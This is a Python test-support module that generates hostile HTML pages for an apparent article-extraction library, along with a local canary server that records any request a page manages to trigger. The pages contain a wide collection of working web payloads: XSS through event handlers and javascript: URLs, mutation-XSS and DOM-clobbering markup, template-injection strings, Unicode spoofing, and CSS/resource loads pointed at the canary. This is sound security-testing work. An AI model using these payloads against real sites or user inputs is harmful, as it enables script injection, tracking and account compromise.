"""Pages that attack whoever shows them, and a server that notices when one of them succeeds."""

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from html import escape

SENTENCE = "This sentence is long enough to be kept by any method of the library, since it goes on for quite a while."
TAGS = (
    "a abbr address article aside audio b bdo blockquote body br button canvas center code custom-element dd details"
    " dialog div dl dt em embed fieldset figcaption figure font footer form frame frameset h1 h2 h6 header hr html i"
    " iframe image img input ins label legend li main map mark marquee math menu meter nav object ol option output p"
    " picture pre progress q ruby section select small source span strong sub summary sup svg table tbody td template"
    " textarea tfoot th thead time tr track u ul var video xmp"
).split()
HANDLERS = (
    "onabort onafterprint onanimationend onanimationstart onauxclick onbeforetoggle onbegin onblur oncanplay onchange"
    " onclick oncontentvisibilityautostatechange oncontextmenu oncopy ondblclick ondrag ondrop onend onerror onfinish"
    " onfocus onfocusin onhashchange oninput oninvalid onkeydown onload onloadstart onmessage onmousedown onmouseenter"
    " onmousemove onmouseover onpageshow onpaste onplay onpointerdown onpointerenter onpointermove onpointerover"
    " onpointerrawupdate onprogress onrepeat onreset onresize onscroll onscrollend onscrollsnapchange onsearch"
    " onseeking onselect onselectionchange onselectstart onstart onsubmit onsuspend ontimeupdate ontoggle ontouchstart"
    " ontransitionend ontransitionrun onunhandledrejection onunload onwebkitanimationstart onwheel"
).split()


def ran(name: str) -> str:
    """A script that tells the window that it ran, in an attribute of either quotes."""
    return f"(top.__ran=top.__ran||[]).push(`{name}`)"


def payloads(canary: str) -> list[str]:
    """Texts that become markup wherever somebody forgets that they are text."""
    image = f"<img src=x onerror={ran('text')}>"
    return [
        image,
        f"<script>{ran('text-script')}</script>",
        f"</script><script>{ran('end-of-script')}</script>",
        f"</textarea></title></style></template></noscript></iframe></xmp></code></pre>{image}",
        f"--><!--> --!> ]]> {image}",
        f'"><svg onload={ran("quote")}>',
        f"' autofocus tabindex=0 onfocus={ran('single-quote')} x='",
        f"[link](javascript:{ran('markdown')}) ![p]({canary}/markdown.png) <{canary}/auto> {canary}/plain",
        f'[ref]: javascript:{ran("reference")} "title" [ref][ref]',
        "{{ 7 * 7 }} {% include 'base.html' %} ${7*7} #{7*7} <%= 7*7 %> $& $` $' $1",
        "\u202etxt.exe\u202c \u2066hidden\u2069 zero\u200bwidth\ufeff \u2028line\u2029 \x1b[31mred",
        f"&lt;img src=x onerror={ran('entity')}&gt; &amp;lt;script&amp;gt;",
        f"\\u003cscript\\u003e{ran('unicode')}\\u003c/script\\u003e",
    ]


def _head(canary: str, title: str) -> str:
    address = f"javascript:{ran('address')}"
    evil = escape(f'</script><img src=x onerror="{ran("meta")}">')
    facts = {"@type": "NewsArticle", "headline": title, "author": {"name": title}, "url": address, "keywords": [title]}
    data = json.dumps({"@context": "https://schema.org", **facts}).replace("</", "<\\/")
    return f"""<!doctype html><html lang='x"><script>{ran("lang")}</script>' dir='"onclick={ran("dir")}'><head>
<base href="{canary}/base/" target=_top><title>{escape(title)}</title>
<meta http-equiv=refresh content="1;url={canary}/refresh"><meta http-equiv=refresh content="0;url={address}">
<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">
<meta http-equiv=set-cookie content="bonmun_session=evil"><meta name=referrer content=unsafe-url>
<meta property=og:title content="{escape(title)}"><meta property=og:site_name content="{evil}">
<meta property=og:url content="{address}"><meta property=og:image content="{canary}/og.png">
<meta name=author content="{evil}"><meta name=description content="{evil}"><meta name=date content="2026-01-02{evil}">
<link rel=canonical href="{address}"><link rel=alternate hreflang=en href="{address}">
<link rel=stylesheet href={canary}/style.css><link rel=preload as=script href={canary}/preload.js>
<link rel=prefetch href={canary}/prefetch><link rel=prerender href={canary}/prerender>
<link rel=modulepreload href={canary}/module.js><link rel=preconnect href={canary}>
<link rel=dns-prefetch href={canary}><link rel=icon href={canary}/icon.png><link rel=manifest href={canary}/manifest>
<link rel=import href={canary}/import.html>
<style>@import url({canary}/import.css);@font-face{{font-family:leak;src:url({canary}/font.woff)}}
*{{font-family:leak!important;background-image:url({canary}/background.png)}}
a[href^=h]{{background:url({canary}/attribute.png)}}:has(p){{list-style-image:url({canary}/has.png)}}
#b1,#main,.bm-keep,.bm-page{{position:fixed;inset:0;z-index:99999;display:none!important}}
@keyframes x{{from{{cursor:url({canary}/cursor),auto}}}}*{{animation:x 1s;content:url({canary}/content.png)}}</style>
<script type=application/ld+json>{data}</script><script>{ran("head")}</script>
<script src={canary}/head.js></script><script type=module>{ran("module")}</script>
<script type=speculationrules>{{"prefetch":[{{"urls":["{canary}/speculation"]}}]}}</script></head>"""


def _active(canary: str) -> str:
    """Elements that load, run, send or navigate."""
    address = f"javascript:{ran('link')}"
    return f"""<body onload="{ran("body")}" background={canary}/body.png>
<a href="{address}" ping={canary}/ping target=_top>a script of a link</a>
<a href="&#1;java&#10;script&colon;{ran("hidden-link")}">another script</a>
<a href="data:text/html,<script>{ran("data")}</script>">data</a> <a href="{canary}/top" target=_top>to the top</a>
<a href="//{canary.partition("//")[2]}/relative" target=_blank>window</a> <a href="#b1" target=_parent>anchor</a>
<img src={canary}/image.png srcset="{canary}/set.png 2x" onerror={ran("image")} width=400 height=300 alt="<b>">
<picture><source srcset={canary}/source.webp><img src=x alt='" onerror={ran("alt")} x="' width=300 height=300></picture>
<video src={canary}/video poster={canary}/poster autoplay onerror={ran("video")}><track src={canary}/track></video>
<audio src={canary}/audio autoplay></audio><input type=image src={canary}/input.png>
<iframe src={canary}/frame></iframe><iframe src="{address}"></iframe><iframe srcdoc="<script>{ran("srcdoc")}</script>">
</iframe><object data={canary}/object></object><object data="{address}"></object><embed src={canary}/embed>
<applet code={canary}/applet></applet><portal src={canary}/portal></portal>
<fencedframe src={canary}/fenced></fencedframe><svg onload="{ran("svg")}"><script>{ran("svg-script")}</script>
<script href={canary}/svg.js /><image href={canary}/svg.png />
<use href="{canary}/use.svg#x"/><foreignObject><body xmlns=http://www.w3.org/1999/xhtml><p onclick={ran("foreign")}>
{SENTENCE}</p><img src=x onerror={ran("foreign-image")}></foreignObject><a><animate attributeName=href
values="{address}" /><text x=20 y=20>animated</text></a><set attributeName=onmouseover to="{ran("set")}" />
<animate onbegin={ran("begin")} attributeName=x dur=1s /></svg>
<math><mi xlink:href="{address}">x</mi><annotation-xml encoding="text/html"><img src=x onerror={ran("math")}>
</annotation-xml><maction actiontype=statusline xlink:href="{address}">m</maction></math>
<form id=ask action={canary}/form method=post target=_top><input name=source autofocus onfocus={ran("autofocus")}>
<input name=children><input name=attributes><button formaction="{address}">send</button><isindex action={canary}/i>
</form>
<form action="{address}"><input type=submit value="send as well"></form>
<details open ontoggle="{ran("toggle")}"><summary>s</summary>{SENTENCE}</details>
<dialog open onclose={ran("dialog")}>{SENTENCE}<form method=dialog><button>close</button></form></dialog>
<div popover id=pop ontoggle={ran("popover")}>{SENTENCE}</div><button popovertarget=pop>pop</button>
<marquee onstart={ran("marquee")}>{SENTENCE}</marquee><keygen autofocus onfocus={ran("keygen")}>
<template><script>{ran("template")}</script></template><template shadowrootmode=open><img src=x onerror={ran("shadow")}>
</template><custom-element is=x onclick={ran("custom")}>{SENTENCE}</custom-element>"""


def _mutating() -> str:
    """Markup whose meaning changes when it is parsed a second time (mXSS)."""
    return f"""<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={ran("m1")}&gt;">
</table></mtext></math><svg></p><style><a id="</style><img src=1 onerror={ran("m2")}>"></svg>
<noscript><p title="</noscript><img src=x onerror={ran("m3")}>"></noscript>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={ran("m4")} src>"></form>
<select><style><!--</style><a rel="--></style></select><img src onerror={ran("m5")}>"></select>
<xmp><p title="</xmp><img src=x onerror={ran("m6")}>"></xmp><noembed><p title="</noembed><img src onerror={ran("m7")}>">
</noembed><textarea><p title="</textarea><img src=x onerror={ran("m8")}>"></textarea>
<style><p title="</style><img src=x onerror={ran("m9")}>"></style><!--><img src=x onerror={ran("m10")}>-->
<!--[if gte IE 4]><script>{ran("m11")}</script><![endif]--><![CDATA[<img src=x onerror={ran("m12")}>]]>
<?xml-stylesheet href="javascript:{ran("m13")}"?><p"><img src=x onerror={ran("m14")}>
<x-a'onclick={ran("m15")}><p a="1" a=`2` <p>{SENTENCE}</x-a'onclick={ran("m15")}><table><td><plaintext-x>"""


def _clobbering() -> str:
    """Elements with the ids and names that scripts look for."""
    ids = (
        "b1 page main words frame work source ask go file messages start given panel-read tab-read tabs actions prefer"
        " method inspector strip toasts help theme keys blocks comparison content title text problem hits jobs rules"
    ).split()
    names = (
        "getElementById querySelector body head cookie location documentElement createElement forms children".split()
    )
    by_id = "".join(
        f"<p id={one} class='bm-page bm-keep' data-block=0 data-address=javascript:1>{SENTENCE}" for one in ids
    )
    by_name = "".join(
        f"<img name={name} alt=x><form name={name} id={name}><input name=parentNode></form>" for name in names
    )
    return by_id + by_name + "<a id=defaultView href=cid:x><a id=defaultView name=fetch href=javascript:1></a>"


def _handlers() -> str:
    """Every event handler on every kind of element."""
    handlers = " ".join(f'{name}="{ran("handler")}"' for name in HANDLERS)
    return "".join(
        f"<{tag} {handlers} tabindex=0 style='animation:x 1s'>{SENTENCE if number % 9 == 0 else tag}</{tag}>"
        for number, tag in enumerate(TAGS)
    )


def attacking_page(canary: str, number: int = 0) -> str:
    """A page with all of it: most of its text is payloads that a method keeps as the article."""
    texts = payloads(canary)
    title = f"{texts[2]} {texts[5]} {number}"
    paragraphs = "".join(f"<p>{escape(text)} {SENTENCE} Number {number}.</p>" for text in texts)
    table = "".join(f"<tr><th>{escape(text)}<td>{escape(text)} {number}" for text in texts[:4])
    article = f"<article id=b1 class='\"><script>'><h1>{escape(title)}</h1>{paragraphs}<table>{table}</table></article>"
    return _head(canary, title) + _active(canary) + article + _clobbering() + _mutating() + _handlers()


def text_page(canary: str) -> str:
    """A well-formed page whose text is payloads."""
    paragraphs = "".join(f"<p>{escape(text)} {SENTENCE}</p>" for text in payloads(canary))
    return f"<title>{escape(payloads(canary)[2])}</title><div id='\"><script>'>{paragraphs}</div>"


@dataclass
class Canary:
    """A server of another origin: whoever asks it for anything was attacked."""

    port: int
    asked: list[str] = field(default_factory=list)
    """The first line of every request, empty for a connection without one."""
    pages: dict[str, bytes] = field(default_factory=dict)

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def by_name(self) -> str:
        """The same server as another site."""
        return f"http://localhost:{self.port}"

    def _answer(self, connection: socket.socket) -> None:
        with connection, suppress(OSError):
            connection.settimeout(20)
            request = connection.recv(65536)
            line = request.partition(b"\r\n")[0].decode("utf-8", "replace")
            path = line.split(" ")[1] if line.count(" ") > 1 else ""
            page = self.pages.get(path)
            if page is None:
                self.asked.append(line)
            body = page or b""
            head = f"HTTP/1.1 {200 if body else 404} -\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\n"
            connection.sendall(f"{head}Connection: close\r\n\r\n".encode() + body)


@contextmanager
def canary_server() -> Iterator[Canary]:
    """Serve until the block ends."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        canary = Canary(listening.getsockname()[1])
        threads: list[threading.Thread] = []
        ended = threading.Event()

        def accept() -> None:
            with suppress(OSError):
                while not ended.is_set():
                    connection, _ = listening.accept()
                    if ended.is_set():
                        connection.close()
                        return
                    threads.append(threading.Thread(target=canary._answer, args=(connection,), daemon=True))
                    threads[-1].start()

        accepting = threading.Thread(target=accept, daemon=True)
        accepting.start()
        try:
            yield canary
        finally:
            ended.set()
            with suppress(OSError), socket.create_connection(("127.0.0.1", canary.port), timeout=5):
                pass
            accepting.join(20)
            for thread in threads:
                thread.join(20)
